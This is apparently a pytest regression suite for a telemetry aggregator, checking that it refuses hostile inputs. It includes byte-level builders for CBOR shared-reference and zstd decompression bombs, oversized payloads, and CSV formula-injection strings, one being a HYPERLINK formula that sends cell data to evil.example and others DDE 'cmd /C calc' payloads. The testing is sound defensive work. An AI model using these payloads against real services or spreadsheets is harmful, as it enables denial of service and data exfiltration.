"""Issue 11's attacks, one device token on loopback, each a regression test: the aggregator refuses what it could
not serve (a structured 400 naming the record and field, so the agent quarantines just that record), bounds what it
allocates (RSS growth of this process, server and client together), and keeps every read and health answering.

Real components: the aiohttp app on 127.0.0.1 (aiohttp_client), real SQLite and PostgreSQL stores.
"""

from __future__ import annotations

import asyncio
import json
import math
import sqlite3
import time
import uuid
from pathlib import Path
from typing import Any

import aiohttp
import cbor2
import msgpack
import pytest
import zstandard

from aggregator.app import Settings, create_app
from aggregator.metrics import FleetMetrics
from aggregator.store import RecordRow, SQLiteStore
from lens_core import record_schema, wire

from .hostile_device import (
    DEVICE,
    HealthProbe,
    ProcessRss,
    RssWatch,
    aggregator_process,
    auth,
    encode_raw,
    raw_batch,
    read_everything,
    valid_wire,
)

NOW = time.time_ns() // 1000
YEAR_20000_US = 568_024_668_800_000_000


def filler_rows(count: int, body: bytes, *, ttft_spread: int = 1) -> list[RecordRow]:
    """``count`` stored rows of one device, one second apart, all carrying ``body``; TTFT 1000 µs (+ i mod spread)."""
    return [
        RecordRow(
            uuid.uuid4().bytes,
            DEVICE,
            "run",
            "inference",
            NOW - 10**9 + i,
            True,
            "local",
            "m",
            "llama.cpp",
            None,
            10,
            20,
            1000 + i % ttft_spread,
            50,
            5000,
            None,  # no energy figures
            None,
            None,  # no settings
            0,  # not contended
            "cbor",
            body,
        )
        for i in range(count)
    ]


@pytest.fixture
def sqlite_store(tmp_path: Path) -> SQLiteStore:
    return SQLiteStore(tmp_path / "agg.db")


async def serve(aiohttp_client: Any, store: Any, **settings: Any) -> tuple[Any, str]:
    token = store.add_token(DEVICE, "device", NOW)
    client = await aiohttp_client(create_app(Settings(**settings), store))
    return client, token


def _cbor_datetime(record: dict[str, Any]) -> dict[str, Any]:
    from datetime import datetime, timezone

    record["ext"] = {"when": datetime(2026, 1, 1, tzinfo=timezone.utc)}
    return record


def _deep(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


# (name, mutation of a valid wire map, codec, the field the refusal must name)
POISON: list[tuple[str, Any, str, str]] = [
    ("started in year 20000", lambda r: {**r, "started_us": YEAR_20000_US}, "cbor", "started_us"),
    ("started at -2^62", lambda r: {**r, "started_us": -(2**62)}, "cbor", "started_us"),
    ("prefill_us a string", lambda r: {**r, "prefill_us": "x"}, "cbor", "prefill_us"),
    ("prefill_us NaN", lambda r: {**r, "prefill_us": math.nan}, "cbor", "prefill_us"),
    ("itl_us a string", lambda r: {**r, "itl_us": "1,2,3"}, "msgpack", "itl_us"),
    ("itl_us an integer", lambda r: {**r, "itl_us": 30_000_000}, "cbor", "itl_us"),
    ("itl_us garbage bytes", lambda r: {**r, "itl_us": b"\xff" * 64}, "cbor", "itl_us"),
    ("ext not a map", lambda r: {**r, "ext": [1, 2]}, "cbor", "ext"),
    ("ext.energy figure a string", lambda r: {**r, "ext": {"energy": {"j_per_output_token": "x"}}}, "cbor", "ext"),
    ("integer map keys in ext (msgpack)", lambda r: {**r, "ext": {"a": {1: 2}}}, "msgpack", "map key"),
    ("integer map keys in ext (cbor)", lambda r: {**r, "ext": {"a": {1: 2}}}, "cbor", "key"),
    ("CBOR datetime in ext", _cbor_datetime, "cbor", "tag"),
    ("bytes inside ext", lambda r: {**r, "ext": {"blob": b"\x00" * 8}}, "cbor", "ext.blob"),
    ("msgpack nested 990 deep", lambda r: {**r, "ext": {"deep": _deep(990)}}, "msgpack", "ext.deep"),
    ("model_sha256 an integer", lambda r: {**r, "model_sha256": 30_000_000}, "cbor", "model_sha256"),
    ("input_tokens 2^63", lambda r: {**r, "input_tokens": 2**63}, "msgpack", "input_tokens"),
    ("integer 2^64 in ext (bignum)", lambda r: {**r, "ext": {"n": 2**64}}, "cbor", "tag"),
    ("integer 2^63 in ext", lambda r: {**r, "ext": {"n": 2**63}}, "msgpack", "ext.n"),
    ("infinite float in ext", lambda r: {**r, "ext": {"x": math.inf}}, "cbor", "ext.x"),
    ("model name of 100 KB", lambda r: {**r, "model_name": "m" * 100_000}, "cbor", "model_name"),
    ("negative duration", lambda r: {**r, "ttft_us": -5}, "cbor", "ttft_us"),
    ("token count 2^40", lambda r: {**r, "output_tokens": 2**40}, "cbor", "output_tokens"),
    ("record version 2", lambda r: {**r, "v": 2}, "cbor", "'v'"),
]


@pytest.mark.parametrize(("name", "mutate", "codec", "field"), POISON, ids=[p[0] for p in POISON])
async def test_poison_record_is_refused_naming_it_and_reads_stay_up(
    aiohttp_client: Any, sqlite_store: SQLiteStore, name: str, mutate: Any, codec: str, field: str
) -> None:
    client, token = await serve(aiohttp_client, sqlite_store)
    good = valid_wire(3, seed=11)
    poison = mutate(dict(good[1]))
    body = raw_batch([encode_raw(good[0], codec), encode_raw(poison, codec), encode_raw(good[2], codec)], codec)
    response = await client.post("/api/v1/ingest", data=body, headers=auth(token))
    answer = await response.json()
    assert response.status == 400, answer
    assert answer["code"] == "record_invalid" and answer["record_index"] == 1
    assert field in answer["error"], answer["error"]
    ids = [bytes(r["id"]) for r in good]
    refusal = wire.parse_refusal(400, answer, ids)
    assert refusal is not None and refusal.code in ("record_invalid", "batch_invalid")
    if answer["record_id"] is not None:  # the id was readable: the agent quarantines exactly this record
        assert answer["record_id"] == ids[1].hex() and refusal.record_index == 1
    assert sqlite_store.record_count() == 0
    # the rest of the batch is accepted on its own, and every read serves it
    rest = raw_batch([encode_raw(good[0], codec), encode_raw(good[2], codec)], codec, batch_id="rest")
    assert (await client.post("/api/v1/ingest", data=rest, headers=auth(token))).status == 200
    seen = await read_everything(client)
    assert len(seen["measurements"]) == 2 and len(seen["csv"]) == 2 and seen["arrow"].num_rows == 2


async def test_agent_records_with_every_ext_section_are_accepted(
    aiohttp_client: Any, sqlite_store: SQLiteStore
) -> None:
    """What the real agent writes into ext (clock, energy, workload, model_load, collaboration stats) passes."""
    client, token = await serve(aiohttp_client, sqlite_store)
    records = valid_wire(2, seed=12)
    ext = {
        "clock": {"synchronized": True, "source": "adjtimex", "maxerror_us": 16000},
        "energy": {"source": "tegrastats", "rate_hz": 100.0, "joules_net": 1.5, "j_per_output_token": 0.012},
        "workload": "chat",
        "model_load": {"engine_load_ms": 812.5, "path": "/var/lib/lens-agent/models/m.gguf", "n_ctx": 2048},
        "collab": {
            "strategy": "speculative",
            "acceptance_rate": 0.71,
            "cloud_time_ms": -0.4,
            "tokens_per_second": None,
        },
        "network": {"rtt_ms": None, "bytes_up": 2**40, "http_status": 200},
    }
    for record in records:
        record["ext"] = ext
    body = raw_batch([encode_raw(r, "cbor") for r in records])
    response = await client.post("/api/v1/ingest", data=body, headers=auth(token))
    assert response.status == 200, await response.text()
    seen = await read_everything(client)
    assert seen["fleet"][0]["j_per_output_token"] == pytest.approx(0.012)
    assert "llm_latency_lens_speculative_acceptance_rate" in seen["metrics"]


async def test_cbor_shared_references_are_refused_without_expanding(tmp_path: Path) -> None:
    """A ~1 KB record whose ext doubles at each of 26 levels through tags 28/29 (470 MB as JSON): refused at once."""
    db, token = _prepared_db(tmp_path)
    record = valid_wire(1, seed=13)[0]
    marker = b"\xab" * 7
    blob = cbor2.dumps({**record, "ext": {"x": marker}}).replace(cbor2.dumps(marker), _shared_bomb(26))
    assert len(blob) < 1000
    with aggregator_process(db) as (url, process), ProcessRss(process) as rss, HealthProbe(url) as health:
        async with aiohttp.ClientSession() as session:
            status, answer = await _post(session, url, raw_batch([blob]), token)
            await asyncio.sleep(0.2)
            await _read_all(session, url)
    assert status == 400 and answer["code"] == "record_invalid" and "tag 28" in answer["error"]
    _bounded(rss, 50, health)


@pytest.mark.parametrize("codec", ["cbor", "msgpack"])
async def test_a_huge_records_array_is_refused_before_it_is_built(tmp_path: Path, codec: str) -> None:
    """A small body whose payload announces (and holds) 20 million records: 413 from the count, not 2 GB later."""
    db, token = _prepared_db(tmp_path)
    n = 20_000_000
    if codec == "cbor":
        head = b"\xa4" + cbor2.dumps("device_id") + cbor2.dumps(DEVICE) + cbor2.dumps("batch_id") + cbor2.dumps("b")
        head += cbor2.dumps("sent_us") + cbor2.dumps(1) + cbor2.dumps("records") + b"\x9a" + n.to_bytes(4, "big")
        item = b"\x40"
    else:
        head = msgpack.packb({"device_id": DEVICE, "batch_id": "b", "sent_us": 1})
        head = bytes([head[0] + 1]) + head[1:] + msgpack.packb("records") + b"\xdd" + n.to_bytes(4, "big")
        item = b"\xc4\x00"
    compressor = zstandard.ZstdCompressor(level=3).compressobj()
    compressed = compressor.compress(head) + compressor.compress(item * n) + compressor.flush()
    body = wire.HEADER.pack(b"LENS", 1, wire.CODECS[codec], 1, 0) + compressed
    assert len(body) < 64 * 1024
    with aggregator_process(db) as (url, process), ProcessRss(process) as rss, HealthProbe(url) as health:
        async with aiohttp.ClientSession() as session:
            started = time.perf_counter()
            status, answer = await _post(session, url, body, token)
            elapsed = time.perf_counter() - started
    assert status == 413 and answer["code"] == "too_large" and "10000" in answer["error"], answer
    assert elapsed < 5
    _bounded(rss, 150, health)  # the inflated payload (20-40 MB) and its copy, never 20 million objects


async def test_zstd_bombs_are_refused_without_inflating_past_the_limit(tmp_path: Path) -> None:
    db, token = _prepared_db(tmp_path)
    # 4 GiB announced in the frame header: refused from the header, nothing inflated
    bomb = wire.HEADER.pack(b"LENS", 1, 1, 1, 0) + _frame_declaring(4 * 1024**3)
    assert zstandard.get_frame_parameters(bomb[8:]).content_size == 4 * 1024**3
    # a streamed bomb (no size in its header): inflated only up to max_decompressed_bytes, then refused
    compressor = zstandard.ZstdCompressor(level=3).compressobj()
    zero = bytes(1 << 20)
    streamed = b"".join(compressor.compress(zero) for _ in range(1024)) + compressor.flush()
    streamed = wire.HEADER.pack(b"LENS", 1, 1, 1, 0) + streamed
    limit = Settings().max_decompressed_bytes
    with aggregator_process(db) as (url, process), HealthProbe(url) as health:
        async with aiohttp.ClientSession() as session:
            with ProcessRss(process) as header_rss:
                status, answer = await _post(session, url, bomb, token)
            assert status == 413 and "frame header" in answer["error"] and header_rss.growth_mb < 10
            with ProcessRss(process) as rss:
                status, answer = await _post(session, url, streamed, token)
    assert status == 413 and answer["limit"] == limit
    _bounded(rss, 2.2 * limit / 1e6, health)


def _prepared_db(tmp_path: Path) -> tuple[str, str]:
    """A SQLite database with a device token, for an aggregator process."""
    db = tmp_path / "agg.db"
    store = SQLiteStore(db)
    token = store.add_token(DEVICE, "device", NOW)
    store.close()
    return str(db), token


async def _post(session: aiohttp.ClientSession, url: str, body: bytes, token: str) -> tuple[int, Any]:
    async with session.post(f"{url}/api/v1/ingest", data=body, headers=auth(token)) as response:
        return response.status, await response.json()


async def _read_all(session: aiohttp.ClientSession, url: str) -> None:
    """Every read page answers, none with a 500: the device page is a 200 once the device has stored records and a
    404 (an unknown device) before."""
    async with session.get(url + "/api/v1/fleet") as response:
        assert response.status == 200
        known = {d["device_id"] for d in (await response.json())["devices"]}
    for path in ("/api/v1/measurements", "/", f"/device/{DEVICE}", "/metrics"):
        async with session.get(url + path) as response:
            expected = 404 if path == f"/device/{DEVICE}" and DEVICE not in known else 200
            assert response.status == expected, path


# Health during an attack: the issue asks for under 50 ms. The median is held to that; the worst answer to 1 s, loose
# for a shared 2-core machine under other load (the worst measured: 58 ms on a quiet one; the stalls this catches
# lasted 11-27 s; the figures are in docs/PERFORMANCE.md).
HEALTH_MEDIAN_MS = 50
HEALTH_WORST_MS = 1000


def _bounded(rss: RssWatch | None, rss_mb: float, health: HealthProbe) -> None:
    if rss is not None:
        assert rss.growth_mb < rss_mb, f"the aggregator grew by {rss.growth_mb:.0f} MB (bound {rss_mb:.0f} MB)"
    assert health.times, "no health answer during the attack"
    grew = f"RSS +{rss.growth_mb:.1f} MB, " if rss is not None else ""
    print(
        f"{grew}health: {len(health.times)} answers, median {health.median_ms:.1f} ms, worst {health.worst_ms:.1f} ms"
    )
    assert health.median_ms < HEALTH_MEDIAN_MS and health.worst_ms < HEALTH_WORST_MS, sorted(health.times)[-5:]


def _shared_bomb(depth: int) -> bytes:
    """A CBOR list [L0, L1, …] where L0 = [1, 2] and each Li = [Li-1, Li-1] by shared reference (tags 28/29)."""

    def ref(i: int) -> bytes:
        return b"\xd8\x1d" + (bytes([i]) if i < 24 else bytes([0x18, i]))

    levels = [b"\xd8\x1c\x82\x01\x02"] + [b"\xd8\x1c\x82" + ref(i - 1) + ref(i - 1) for i in range(1, depth)]
    return bytes([0x80 + depth]) + b"".join(levels) if depth < 24 else b"\x98" + bytes([depth]) + b"".join(levels)


def _frame_declaring(size: int) -> bytes:
    """A zstd frame whose header announces ``size`` bytes (its one block is tiny): what a bomb's header says."""
    descriptor = 0b11_1_0_0_0_00  # 8-byte content size, single segment, no checksum, no dictionary
    header = b"\x28\xb5\x2f\xfd" + bytes([descriptor]) + size.to_bytes(8, "little")
    block = (1 << 0 | 1 << 1 | (1 << 3)).to_bytes(3, "little") + b"\x00"  # last block, RLE, 1 byte
    return header + block


async def test_long_label_values_are_bounded_on_metrics(aiohttp_client: Any, sqlite_store: SQLiteStore) -> None:
    """100 records of distinct 100 KB model names are refused; names at the schema's bound are cut on /metrics."""
    client, token = await serve(aiohttp_client, sqlite_store, max_label_chars=64)
    records = valid_wire(100, seed=14)
    for i, record in enumerate(records):
        record["model_name"] = f"{i:03d}" + "m" * 100_000
    body = raw_batch([encode_raw(r, "cbor") for r in records])
    assert (await client.post("/api/v1/ingest", data=body, headers=auth(token))).status == 400
    for i, record in enumerate(records):
        record["model_name"] = f"{i:03d}" + "m" * (record_schema.MAX_NAME_CHARS - 3)
    body = raw_batch([encode_raw(r, "cbor") for r in records])
    assert (await client.post("/api/v1/ingest", data=body, headers=auth(token))).status == 200
    started = time.perf_counter()
    seen = await read_everything(client)
    assert time.perf_counter() - started < 10
    assert len(seen["metrics"]) < 2_000_000
    truncated = seen["families"]["llm_latency_lens_metric_labels_truncated"].samples[0].value
    assert truncated >= 100
    for family in seen["families"].values():
        for sample in family.samples:
            assert all(len(v) <= 64 for v in sample.labels.values())


def test_label_cut_is_counted() -> None:
    metrics = FleetMetrics(max_label_chars=16)
    metrics.observe("d" * 40, [{"kind": "inference", "ok": True, "model_name": "m" * 40, "ttft_us": 1000}])
    text = metrics.exposition().decode()
    assert 'device="' + "d" * 15 + '…"' in text and "m" * 17 not in text
    assert "llm_latency_lens_metric_labels_truncated_total 2.0" in text


async def test_login_bodies_are_bounded(tmp_path: Path) -> None:
    """16 unauthenticated 16 MiB POST /login bodies at once: each 413 after at most the form limit is read."""
    db, _ = _prepared_db(tmp_path)
    store = SQLiteStore(db)
    read = store.add_token("ops", "read", NOW)
    store.close()
    big = b"token=" + b"a" * (16 * 1024**2)

    async def chunks() -> Any:
        for i in range(0, len(big), 1 << 20):
            yield big[i : i + (1 << 20)]

    with (
        aggregator_process(db, host="0.0.0.0") as (url, process),
        ProcessRss(process) as rss,
        HealthProbe(url) as health,
    ):
        async with aiohttp.ClientSession() as session:
            answers = await asyncio.gather(*(session.post(f"{url}/login", data=big) for _ in range(8)))
            chunked = await asyncio.gather(*(session.post(f"{url}/login", data=chunks()) for _ in range(8)))
            assert [a.status for a in answers + chunked] == [413] * 16
            wrong = await session.post(f"{url}/login", data={"token": "nope"}, allow_redirects=False)
            right = await session.post(f"{url}/login", data={"token": read}, allow_redirects=False)
            assert wrong.status == 401 and right.status == 302
    _bounded(rss, 40, health)  # the server holds at most 4 KiB of each body, never 16 × 16 MiB


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("since=inf", "since"),
        ("since=nan", "since"),
        ("since=1e300", "since"),
        ("until=-1", "until"),
        ("since=99999-01-01T00:00:00Z", "since"),
        ("cursor=18446744073709551616", "cursor"),
        ("limit=1e3", "limit"),
        ("limit=" + "9" * 100, "limit"),
        ("device=" + "d" * 1000, "device"),
    ],
)
async def test_query_parameters_out_of_range_are_400_naming_them(
    aiohttp_client: Any, sqlite_store: SQLiteStore, query: str, parameter: str
) -> None:
    client, _ = await serve(aiohttp_client, sqlite_store)
    for path in ("/api/v1/measurements", "/api/v1/summary"):
        if parameter in ("cursor", "limit") and path.endswith("summary"):
            continue
        response = await client.get(f"{path}?{query}")
        answer = await response.json()
        assert response.status == 400 and answer["parameter"] == parameter, answer


async def test_integers_beyond_64_bits_are_400_not_500(aiohttp_client: Any, store: Any) -> None:
    client, token = await serve(aiohttp_client, store)
    record = valid_wire(1, seed=15)[0]
    for codec, value in (("msgpack", 2**64 - 1), ("cbor", 2**63), ("cbor", 2**70)):
        for field in ("e2e_us", "rss_peak_bytes", "prompt_index"):
            body = raw_batch([encode_raw({**record, field: value}, codec)], codec)
            response = await client.post("/api/v1/ingest", data=body, headers=auth(token))
            assert response.status == 400, (codec, field, await response.text())
    blobs = [encode_raw(record, "msgpack")]
    payload = msgpack.packb(
        {"device_id": DEVICE, "batch_id": "b", "sent_us": 1, "counters": {"dropped_total": 2**64 - 1}, "records": blobs}
    )
    body = wire.HEADER.pack(b"LENS", 1, 2, 0, 0) + payload
    response = await client.post("/api/v1/ingest", data=body, headers=auth(token))
    assert response.status == 400 and "counters" in (await response.json())["error"]
    assert store.record_count() == 0
    await read_everything(client)


def test_token_revoke_matches_exactly(sqlite_store: SQLiteStore) -> None:
    tokens = [sqlite_store.add_token(f"dev-{i}", "device", NOW) for i in range(3)]
    for selector in ("________", "%", "%%%%%%%%", "dev-_", "dev-%", "____________"):
        assert sqlite_store.revoke(selector, NOW) == 0
    assert all(sqlite_store.authenticate(t, NOW) for t in tokens)
    token_id = sqlite_store.list_tokens()[1].token_id
    assert sqlite_store.revoke(token_id[:8], NOW) == 0  # a prefix is not an id
    assert sqlite_store.revoke(token_id, NOW) == 1
    assert [sqlite_store.authenticate(t, NOW) is None for t in tokens] == [False, True, False]


def test_token_revoke_matches_exactly_on_postgres(pg_url: str) -> None:
    from aggregator.pgstore import PostgresStore

    store = PostgresStore(pg_url)
    try:
        tokens = [store.add_token(f"dev-{i}", "device", NOW) for i in range(3)]
        for selector in ("________", "%", "____________", "dev-_"):
            assert store.revoke(selector, NOW) == 0
        token_id = store.list_tokens()[2].token_id
        assert store.revoke(token_id, NOW) == 1
        assert [store.authenticate(t, NOW) is None for t in tokens] == [False, False, True]
    finally:
        store.close()


async def test_csv_cells_are_escaped_against_formulas(aiohttp_client: Any, sqlite_store: SQLiteStore) -> None:
    client, token = await serve(aiohttp_client, sqlite_store)
    records = valid_wire(3, seed=16)
    records[0]["model_name"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    records[1]["run_id"] = "+cmd|' /C calc'!A0"
    records[2].update(ok=False, error_type="@SUM(1+1)*cmd|' /C calc'!A0", engine="-2+3")
    body = raw_batch([encode_raw(r, "cbor") for r in records])
    assert (await client.post("/api/v1/ingest", data=body, headers=auth(token))).status == 200
    rows = (await read_everything(client))["csv"]
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert rows[0]["model_name"] == "'" + records[0]["model_name"]
    assert rows[2]["error_type"].startswith("'@SUM")


async def test_postgres_partitions_only_inside_the_accepted_window(aiohttp_client: Any, pg_url: str) -> None:
    from aggregator.pgstore import PostgresStore

    store = PostgresStore(pg_url)
    client, token = await serve(aiohttp_client, store)
    record = valid_wire(1, seed=17)[0]
    far = []
    for year in (1970, 1999, 2019, 2100, 9999):
        far.append({**record, "id": uuid.uuid4().bytes, "started_us": int((year - 1970) * 365.2425 * 86400e6)})
    for i, poison in enumerate(far):
        response = await client.post(
            "/api/v1/ingest", data=raw_batch([encode_raw(poison, "cbor")], batch_id=str(i)), headers=auth(token)
        )
        assert response.status == 400 and "started_us" in (await response.json())["error"]
    # the store itself never makes a partition outside the window, whatever it is handed
    store._ensure_partitions([0, YEAR_20000_US // 100, 253_402_300_799_999_999], NOW)
    spread = [{**record, "id": uuid.uuid4().bytes, "started_us": NOW - k * 31 * 86_400_000_000} for k in range(12)]
    body = raw_batch([encode_raw(r, "cbor") for r in spread], batch_id="spread")
    assert (await client.post("/api/v1/ingest", data=body, headers=auth(token))).status == 200
    import psycopg

    with psycopg.connect(pg_url) as conn:
        names = [
            r[0]
            for r in conn.execute(
                "SELECT c.relname FROM pg_inherits i JOIN pg_class c ON c.oid = i.inhrelid "
                "JOIN pg_class p ON p.oid = i.inhparent WHERE p.relname = 'measurements'"
            )
        ]
    months = sorted(n for n in names if n != "measurements_default")
    assert 12 <= len(months) <= 13 and all(n[len("measurements_") :][:4] >= "2020" for n in months)
    assert len((await read_everything(client))["measurements"]) == 12


def _damage(path: Path, record: dict[str, Any]) -> None:
    """Rows an older version or a damaged disk could have left: bodies that do not decode, or decode to junk."""
    conn = sqlite3.connect(path)
    base = (DEVICE, "run", "inference", NOW - 10**9, NOW, 1)
    bad = [
        b"\xff\xfe not cbor",
        cbor2.dumps({**record, "itl_us": b"\x01\x00\x00\x7f\x01\xff"}),  # packed gaps that run out of bits
        cbor2.dumps({**record, "started_us": "yesterday"}),
        cbor2.dumps([1, 2, 3]),
        cbor2.dumps({**record, "ext": {"x": math.nan}}),
    ]
    for i, body in enumerate(bad):
        conn.execute(
            "INSERT INTO measurements (id, device_id, run_id, kind, started_us, received_us, ok, ttft_us, batch_id, "
            "codec, body) VALUES (?, ?, ?, ?, ?, ?, ?, ?, 'legacy', 'cbor', ?)",
            (uuid.uuid4().bytes, *base, "x" if i == 2 else 1000, body),
        )
    conn.commit()
    conn.close()


async def test_rows_that_do_not_decode_are_skipped_and_counted(aiohttp_client: Any, tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "agg.db")
    client, token = await serve(aiohttp_client, store)
    records = valid_wire(2, seed=18)
    body = raw_batch([encode_raw(r, "cbor") for r in records])
    assert (await client.post("/api/v1/ingest", data=body, headers=auth(token))).status == 200
    _damage(tmp_path / "agg.db", records[0])
    before = (await read_everything(client))["families"]
    seen = await read_everything(client)
    assert [m["id"] for m in seen["measurements"]] == [str(uuid.UUID(bytes=r["id"])) for r in records]
    assert len(seen["ndjson"]) == 2 and seen["arrow"].num_rows >= 2  # the export reads no gaps and no ext
    skipped = seen["families"]["llm_latency_lens_read_undecodable_rows"].samples[0].value
    assert skipped > before["llm_latency_lens_read_undecodable_rows"].samples[0].value


async def test_a_large_summary_never_stalls_ingest_or_health(tmp_path: Path) -> None:
    """A summary over 190k rows and a fleet-page refresh run on the read pool with their own connections: ingest
    and health keep answering while they run."""
    db, token = _prepared_db(tmp_path)
    store = SQLiteStore(db, synchronous="OFF")
    blob = encode_raw(valid_wire(1, seed=19)[0], "cbor")
    rows = filler_rows(190_000, blob, ttft_spread=977)
    for i in range(0, len(rows), 50_000):
        store.ingest(DEVICE, f"fill-{i}", 1, {}, rows[i : i + 50_000], NOW)
    store.close()
    fresh = valid_wire(50, seed=20)
    ingest_times: list[float] = []

    async def keep_ingesting(session: aiohttp.ClientSession, url: str) -> None:
        for i in range(0, 50, 5):
            body = raw_batch([encode_raw(r, "cbor") for r in fresh[i : i + 5]], batch_id=f"live-{i}")
            started = time.perf_counter()
            assert (await _post(session, url, body, token))[0] == 200
            ingest_times.append(time.perf_counter() - started)
            await asyncio.sleep(0.05)

    async def get(session: aiohttp.ClientSession, url: str) -> tuple[int, bytes]:
        async with session.get(url) as response:
            return response.status, await response.read()

    with aggregator_process(db) as (url, _), HealthProbe(url) as health:
        async with aiohttp.ClientSession() as session:
            started = time.perf_counter()
            reads = [get(session, f"{url}/api/v1/summary?group_by={g}") for g in ("", "device", "model", "strategy")]
            answers = await asyncio.gather(*reads, get(session, f"{url}/"), keep_ingesting(session, url))
            elapsed = time.perf_counter() - started
    statuses = [a[0] for a in answers[:5] if a is not None]
    assert statuses == [200] * 5
    summary = answers[0]
    assert summary is not None and json.loads(summary[1])["groups"]["all"]["requests"] >= 190_000
    assert max(ingest_times) < max(0.5, elapsed / 4), (ingest_times, elapsed)
    _bounded(None, 0, health)


async def test_reads_beyond_the_bound_are_503_and_slow_queries_are_interrupted(
    aiohttp_client: Any, tmp_path: Path
) -> None:
    store = SQLiteStore(tmp_path / "agg.db")
    client, _ = await serve(aiohttp_client, store, max_query_seconds=0.05)
    template = encode_raw(valid_wire(1, seed=21)[0], "cbor")
    rows = filler_rows(200_000, template)
    store.ingest(DEVICE, "fill", 1, {}, rows, NOW)
    response = await client.get("/api/v1/summary?group_by=model")
    answer = await response.json()
    assert response.status == 503 and "narrow" in answer["error"]
    assert (await client.get("/api/v1/health")).status == 200


def test_the_limits_come_from_the_shipped_configuration() -> None:
    from aggregator.config import load_aggregator_config

    root = Path(__file__).resolve().parents[1]
    settings = Settings.from_config(load_aggregator_config(root / "configs" / "aggregator.toml"))
    assert settings == Settings()  # the shipped file states the defaults
    assert settings.max_decompressed_bytes == 64 * 1024**2 and settings.max_batch_records == 10_000


async def test_json_pages_stop_at_the_answer_bound_and_say_where_to_go_on(
    aiohttp_client: Any, sqlite_store: SQLiteStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Records at the schema's bound for gaps make big answers: a page ends at MAX_ANSWER_BYTES with next_cursor,
    and following the cursors returns every record once."""
    from aggregator import api
    from lens_core.itlpack import pack_gaps

    client, token = await serve(aiohttp_client, sqlite_store)
    records = valid_wire(6, seed=22)
    for record in records:
        record["itl_us"] = pack_gaps([3000 + i % 97 for i in range(20_000)])
    body = raw_batch([encode_raw(r, "cbor") for r in records])
    assert (await client.post("/api/v1/ingest", data=body, headers=auth(token))).status == 200
    monkeypatch.setattr(api, "MAX_ANSWER_BYTES", 250_000)  # about two such records
    seen: list[str] = []
    cursor = 0
    for _ in range(10):
        response = await client.get(f"/api/v1/measurements?limit=100&cursor={cursor}")
        page = await response.json()
        assert response.status == 200 and 1 <= len(page["measurements"]) <= 3
        assert all(len(m["itl_ms"]) == 20_000 for m in page["measurements"])
        seen += [m["id"] for m in page["measurements"]]
        if page["next_cursor"] is None:
            break
        cursor = page["next_cursor"]
    assert seen == [str(uuid.UUID(bytes=r["id"])) for r in records]


def test_packed_gaps_decode_in_linear_time() -> None:
    """The largest gap list the schema allows decodes in about a second, not minutes (reads decode every record)."""
    from lens_core.itlpack import pack_gaps, unpack_gaps

    gaps = [3000 + (i * 7919) % 211 for i in range(record_schema.MAX_GAPS)]
    packed = pack_gaps(gaps)
    assert len(packed) <= record_schema.MAX_ITL_BYTES
    started = time.process_time()
    assert unpack_gaps(packed) == gaps
    assert time.process_time() - started < 10


async def test_postgres_reads_are_bounded_in_time_and_apart_from_ingest(aiohttp_client: Any, pg_url: str) -> None:
    from aggregator.pgstore import PostgresStore

    store = PostgresStore(pg_url)
    client, token = await serve(aiohttp_client, store)
    blob = encode_raw(valid_wire(1, seed=23)[0], "cbor")
    rows = filler_rows(60_000, blob)
    store.ingest(DEVICE, "fill", 1, {}, rows, NOW)
    # the bound tightened once the app has started: its start-up reads (metrics) need not fit in 1 ms
    store.max_query_seconds = 0.001
    response = await client.get("/api/v1/summary?group_by=model")
    assert response.status == 503 and "narrow" in (await response.json())["error"]
    fresh = raw_batch([encode_raw(r, "cbor") for r in valid_wire(3, seed=24)], batch_id="after")
    assert (await client.post("/api/v1/ingest", data=fresh, headers=auth(token))).status == 200
    store.max_query_seconds = 10
    assert store.record_count() == 60_003  # the read connection answers again after a cancelled statement
